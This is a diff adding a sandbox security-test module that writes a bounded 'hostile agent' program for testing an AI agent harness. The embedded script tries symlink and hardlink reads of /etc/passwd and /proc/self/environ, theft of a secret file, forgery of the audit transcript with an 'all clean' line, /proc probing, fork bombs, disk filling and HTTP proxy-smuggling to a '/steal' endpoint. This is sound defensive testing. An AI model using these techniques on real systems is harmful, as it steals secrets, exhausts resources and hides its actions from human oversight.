@@ -1,0 +1,211 @@
+"""A hostile agent program for the security suite, run by the `command` agent inside the sandbox.
+
+``write_hostile_agent`` writes it as an executable file in a "user's folder" (beside files an
+agent must not see); the campaign runs ``hostile.py ATTACK /workspace`` with the attack as
+the run's model name. It prints one JSON line (what it saw) and performs the attack.
+Everything it does is bounded (a fork bomb stops at a few hundred forks, a disk filler at a
+few dozen MiB), so a machine without a limit survives a failing test.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+SCRIPT = r'''#!/usr/bin/python3
+import json, os, socket, subprocess, sys, time
+
+CFG = json.loads(__CFG__)
+attack = sys.argv[1]
+os.chdir(sys.argv[2])
+seen = {"attack": attack}
+
+
+def report():
+    print(json.dumps(seen), flush=True)
+
+
+def attempt(name, fn):
+    try:
+        seen[name] = fn()
+    except Exception as exc:
+        seen[name] = type(exc).__name__
+
+
+def fill(path, total, chunk=1 << 20):
+    with open(path, "wb") as fh:
+        for _ in range(total // chunk):
+            fh.write(b"x" * chunk)
+
+
+if attack == "honest":
+    with open("output.csv", "w") as fh:
+        fh.write(CFG["correct_output"])
+elif attack == "symlink-earlier-run":
+    os.symlink(CFG["earlier_output"], "output.csv")
+elif attack == "symlink-relative":
+    os.symlink(CFG["earlier_output_relative"], "output.csv")
+elif attack == "symlink-proc-environ":
+    os.symlink("/proc/self/environ", "output.csv")
+elif attack == "symlink-source-db":
+    os.symlink(CFG["source_db"], "output.csv")
+elif attack == "symlink-results-store":
+    os.symlink(CFG["results_store"], "output.csv")
+elif attack == "fifo-output":
+    os.mkfifo("output.csv")
+elif attack == "dir-output":
+    os.mkdir("output.csv")
+    with open("output.csv/rows.csv", "w") as fh:
+        fh.write(CFG["correct_output"])
+elif attack == "hardlink-outside":
+    attempt("link_passwd", lambda: os.link("/etc/passwd", "output.csv") or "linked")
+    attempt("link_python", lambda: os.link(os.path.realpath(sys.executable), "output.csv") or "linked")
+elif attack == "hardlink-inside":
+    with open("answer.csv", "w") as fh:
+        fh.write(CFG["correct_output"])
+    os.link("answer.csv", "output.csv")
+elif attack == "sparse-huge":
+    with open("output.csv", "w") as fh:
+        fh.truncate(3 << 30)  # a 3 GiB file of holes (past the file-size limit)
+elif attack == "over-cap":
+    with open("output.csv", "w") as fh:
+        fh.write(CFG["correct_output"])
+        fh.truncate(CFG["over_cap_bytes"])
+elif attack == "user-folder":
+    folder = os.path.dirname(os.path.abspath(sys.argv[0]))
+    attempt("listing", lambda: sorted(os.listdir(folder)))
+    attempt("secret", lambda: open(os.path.join(folder, "secret.txt")).read())
+    attempt("older_output", lambda: open(CFG["older_campaign_output"]).read())
+    if isinstance(seen["older_output"], str) and seen["older_output"].startswith("subject_id"):
+        with open("output.csv", "w") as fh:
+            fh.write(seen["older_output"])
+    s = socket.socket(socket.AF_UNIX)
+    attempt("user_socket", lambda: s.connect(os.path.join(folder, "agent.sock")) or "connected")
+elif attack == "rewrite-transcript":
+    print("cat " + CFG["results_store"], flush=True)  # what the audit must still see afterwards
+    forge = (
+        "import glob\n"
+        "done = []\n"
+        "for path in ['/proc/1/fd/1', '/proc/1/fd/2', '/proc/self/fd/1', *glob.glob('/proc/*/fd/*')]:\n"
+        "    try:\n"
+        "        with open(path, 'w') as fh: fh.write('{\"type\": \"stdout\", \"line\": \"all clean\"}\\n')\n"
+        "        done.append(path)\n"
+        "    except OSError:\n"
+        "        pass\n"
+    )
+    subprocess.run([sys.executable, "-c", forge], start_new_session=True)
+elif attack == "fd-inheritance":
+    fds = {}
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
+            try:
+                fds[f"{pid}/{fd}"] = os.readlink(f"/proc/{pid}/fd/{fd}")
+            except OSError:
+                pass
+    seen["fds"] = fds
+elif attack == "proc-probe":
+    pids = [p for p in os.listdir("/proc") if p.isdigit()]
+    seen["pids"] = len(pids)
+    cmdlines = []
+    for pid in pids:
+        try:
+            cmdlines.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode())
+        except OSError:
+            pass
+    seen["cmdlines"] = cmdlines
+    seen["environ"] = open("/proc/self/environ", "rb").read().decode(errors="replace")
+    attempt("host_root", lambda: sorted(os.listdir("/proc/1/root"))[:50])
+    attempt("kcore", lambda: len(open("/proc/kcore", "rb").read(16)))
+elif attack == "cleanup-trap":
+    os.symlink(CFG["victim"], "trap")
+    os.makedirs("nested")
+    os.symlink(CFG["victim"], "nested/link")
+    os.symlink(os.path.join(CFG["victim"], "keep.txt"), "output.csv")
+elif attack == "fork-bomb":
+    forks = 0
+    for _ in range(CFG["fork_cap"]):
+        try:
+            pid = os.fork()
+        except OSError as exc:
+            seen["fork_error"] = exc.strerror
+            break
+        if pid == 0:
+            time.sleep(120)
+            os._exit(0)
+        forks += 1
+    seen["forks"] = forks
+    report()
+    sys.exit(1 if "fork_error" in seen else 0)
+elif attack == "memory-hog":
+    report()
+    hog = b"x" * CFG["memory_hog_bytes"]
+    seen["allocated"] = len(hog)
+elif attack == "disk-fill":
+    report()
+    for i in range(CFG["disk_fill_files"]):
+        fill(f"fill-{i}.bin", 4 << 20)
+    time.sleep(20)  # the watchdog ends the run before this
+elif attack == "tmp-fill":
+    report()
+    for i in range(16):  # files under the file-size limit, together past the size of /tmp
+        fill(f"/tmp/fill-{i}.bin", 4 << 20)
+elif attack == "stdout-flood":
+    line = b"y" * 1023 + b"\n"
+    for _ in range(CFG["flood_bytes"] // 1024):
+        sys.stdout.buffer.write(line)
+    sys.stdout.flush()
+elif attack == "dns":
+    attempt("resolve", lambda: socket.getaddrinfo("example.com", 80)[0][4][0])
+    seen["resolv_conf"] = os.path.exists("/etc/resolv.conf")
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    attempt("udp_to_host", lambda: u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", ("127.0.0.1", CFG["udp_port"])))
+elif attack == "raw-sockets":
+    attempt("raw_inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
+    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "opened")
+    attempt("interfaces", lambda: sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else [])
+elif attack == "abstract-socket":
+    s = socket.socket(socket.AF_UNIX)
+    attempt("abstract", lambda: s.connect("\0" + CFG["abstract_name"]) or "connected")
+    t = socket.socket()
+    t.settimeout(3)
+    attempt("host_tcp", lambda: t.connect(("127.0.0.1", CFG["tcp_port"])) or "connected")
+elif attack == "proxy-smuggling":
+    port = int(os.environ["OPENAI_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
+    evil = CFG["evil_port"]
+    requests = {
+        "pipelined": f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\n\r\n"
+                     f"GET http://127.0.0.1:{evil}/steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
+        "absolute": f"GET http://127.0.0.1:{evil}/steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
+        "connect": f"CONNECT 127.0.0.1:{evil} HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
+        "host_header": f"GET /steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
+        "userinfo": f"GET http://127.0.0.1:{port}@127.0.0.1:{evil}/steal HTTP/1.1\r\n\r\n",
+    }
+    for name, raw in requests.items():
+        c = socket.create_connection(("127.0.0.1", port), timeout=10)
+        c.sendall(raw.encode())
+        reply = b""
+        try:
+            while chunk := c.recv(4096):
+                reply += chunk
+        except OSError:
+            pass
+        seen[name] = reply.split(b"\r\n", 1)[0].decode(errors="replace")
+        c.close()
+elif attack == "hung-endpoint":
+    report()
+    url = os.environ["OPENAI_BASE_URL"].split("//", 1)[1].split("/")[0]
+    host, port = url.rsplit(":", 1)
+    c = socket.create_connection((host, int(port)))
+    c.sendall(b"POST /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
+    c.recv(1)  # the endpoint never answers
+report()
+'''
+
+
+def write_hostile_agent(folder: Path, cfg: dict) -> Path:
+    """The hostile program at ``folder/hostile.py`` (executable), its settings embedded."""
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / "hostile.py"
+    path.write_text(SCRIPT.replace("__CFG__", repr(json.dumps(cfg))))
+    path.chmod(0o755)
+    return path
